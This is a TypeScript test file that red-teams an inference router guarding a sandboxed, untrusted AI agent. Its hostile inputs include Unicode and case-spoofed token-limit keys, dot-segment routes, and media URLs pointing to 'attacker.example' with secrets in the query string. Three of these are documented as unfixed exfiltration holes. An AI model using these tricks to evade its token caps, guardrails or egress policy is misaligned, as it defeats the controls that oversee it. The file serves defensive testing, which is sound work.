@@ -1,0 +1,100 @@
+/**
+ * An attacker's review of the per-API rules (ADR 0034): ways an untrusted agent gets around the
+ * per-request cap, the guardrail stages, provider-run network access and the route table. Each
+ * test drives the real pure decisions (`decideRequest`, `matchRoute`); a test marked `todo` is a
+ * hole found and documented but not fixed.
+ */
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import type { InferenceRules } from '../snapshot.js';
+import { decideRequest, type Forward, type PipelineContext, type Reject } from './pipeline.js';
+import { CHAT, EMBEDDINGS, MESSAGES, RESPONSES, type InferenceApi } from './apis.js';
+import { matchRoute, type ApiRoute } from './routes.js';
+import { inferenceRules } from '../testing/rules.js';
+
+const CTX: PipelineContext = { defaultDailyTokens: null, guardrailConfigured: true };
+const route = (api: InferenceApi): ApiRoute => ({ kind: 'api', api, prefix: '/v1', deployment: undefined, query: '' });
+const capped = (perRequestTokens: number): InferenceRules =>
+  inferenceRules({ tokenBudget: { perRequestTokens, dailyTokens: null, monthlyTokens: null } });
+const guarded: InferenceRules = inferenceRules({
+  guardrails: [{ provider: 'openai-moderation', applyTo: 'input' }],
+});
+
+function decide(api: InferenceApi, body: string | object, r: InferenceRules | undefined): Reject | Forward {
+  return decideRequest(Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)), route(api), r, CTX);
+}
+function refusedWith(d: Reject | Forward, status: number): void {
+  assert.equal(d.kind, 'reject', `expected a refusal, forwarded ${d.kind === 'forward' ? d.text.slice(0, 300) : ''}`);
+  assert.equal((d as Reject).refusal.status, status, JSON.stringify((d as Reject).refusal.body));
+}
+
+describe('hostile: a limit field spelled so a case-insensitive upstream reads it', () => {
+  // Go's encoding/json (Ollama, a supported provider, and most Go gateways) matches object keys
+  // case-insensitively with Unicode simple folding (ſ → s, K → k), and the last key read wins. The
+  // router reads only the exact spelling, so `MAX_TOKENS` after a small `max_tokens` sets the
+  // upstream's limit past the cap, and `Stream` streams without the usage the router asks for.
+  const msgs = [{ role: 'user', content: 'hi' }];
+  for (const key of ['MAX_TOKENS', 'Max_Tokens', 'max_tokenſ', 'max_to\u212Aens', 'N']) {
+    it(`refuses ${JSON.stringify(key)} beside max_tokens under a cap (chat)`, () => {
+      refusedWith(decide(CHAT, { model: 'm', messages: msgs, max_tokens: 10, [key]: 100_000 }, capped(100)), 400);
+    });
+  }
+  it('refuses a Kelvin-sign spelling of a limit field on the embeddings route (ollama speaks it)', () => {
+    refusedWith(decide(EMBEDDINGS, { model: 'm', input: 'x', max_toKens: 5 }, capped(100)), 400);
+  });
+  it('refuses Max_Output_Tokens and Background on Responses, and Max_Tokens / Thinking on Messages', () => {
+    refusedWith(decide(RESPONSES, { model: 'm', input: 'x', Max_Output_Tokens: 100_000 }, capped(100)), 400);
+    refusedWith(decide(RESPONSES, { model: 'm', input: 'x', Background: true }, capped(100)), 400);
+    refusedWith(decide(MESSAGES, { model: 'm', messages: msgs, max_tokens: 10, Max_Tokens: 100_000 }, capped(100)), 400);
+    refusedWith(decide(MESSAGES, { model: 'm', messages: msgs, max_tokens: 10, Thinking: { budget_tokens: 1e5 } }, capped(100)), 400);
+  });
+  it('refuses a media key in another case inside a text part under an input stage', () => {
+    const content = [{ type: 'text', text: 'look', Image_URL: { url: 'https://example.com/x.png' } }];
+    refusedWith(decide(CHAT, { model: 'm', messages: [{ role: 'user', content }] }, guarded), 403);
+  });
+  it('still forwards ordinary requests whose keys are exact (no false refusal)', () => {
+    const d = decide(CHAT, { model: 'm', messages: msgs, max_tokens: 10, temperature: 0.5, user: 'U' }, capped(100));
+    assert.equal(d.kind, 'forward');
+  });
+});
+
+describe('hostile: the route table and dot segments', () => {
+  it('refuses GET /v1/models/.. and /v1/models/. (a dot segment an upstream resolves to its parent)', () => {
+    for (const p of ['/v1/models/..', '/v1/models/.', '/v1/models/..?x=1']) assert.equal(matchRoute('GET', p).kind, 'refused', p);
+    assert.equal(matchRoute('GET', '/v1/models/gpt-4.1').kind, 'models');
+  });
+});
+
+describe('hostile: media the provider fetches from a URL of the agent', () => {
+  // ADR 0034 refuses provider-run tools because "they reach the network from the provider, outside
+  // the sandbox's egress policy": a URL-sourced image or document is fetched by the provider just the
+  // same (OpenAI fetches `image_url.url`, Anthropic fetches `source.type: "url"`), so an agent can
+  // put any data in a URL to a host of its choosing. It is also billed by the fetched media's size,
+  // which the reservation (bytes of the request) does not know: a 60-byte PDF URL can cost 100k+
+  // input tokens, so parallel requests overshoot the daily budget by far more than they reserve.
+  const noStages = capped(1000);
+  it(
+    'refuses a chat image_url with an http(s) URL',
+    { todo: 'provider-side fetch of an agent-chosen URL is not refused (exfiltration outside egress, unreserved tokens)' },
+    () => {
+      const content = [{ type: 'image_url', image_url: { url: 'https://attacker.example/?secret=abc' } }];
+      refusedWith(decide(CHAT, { model: 'm', messages: [{ role: 'user', content }] }, noStages), 403);
+    },
+  );
+  it(
+    'refuses an Anthropic document or image with source.type url',
+    { todo: 'provider-side fetch of an agent-chosen URL is not refused (exfiltration outside egress, unreserved tokens)' },
+    () => {
+      const content = [{ type: 'document', source: { type: 'url', url: 'https://attacker.example/big.pdf?secret=abc' } }];
+      refusedWith(decide(MESSAGES, { model: 'm', max_tokens: 10, messages: [{ role: 'user', content }] }, noStages), 403);
+    },
+  );
+  it(
+    'refuses a Responses input_file with file_url',
+    { todo: 'provider-side fetch of an agent-chosen URL is not refused (exfiltration outside egress, unreserved tokens)' },
+    () => {
+      const input = [{ role: 'user', content: [{ type: 'input_file', file_url: 'https://attacker.example/?secret=abc' }] }];
+      refusedWith(decide(RESPONSES, { model: 'm', input }, noStages), 403);
+    },
+  );
+});
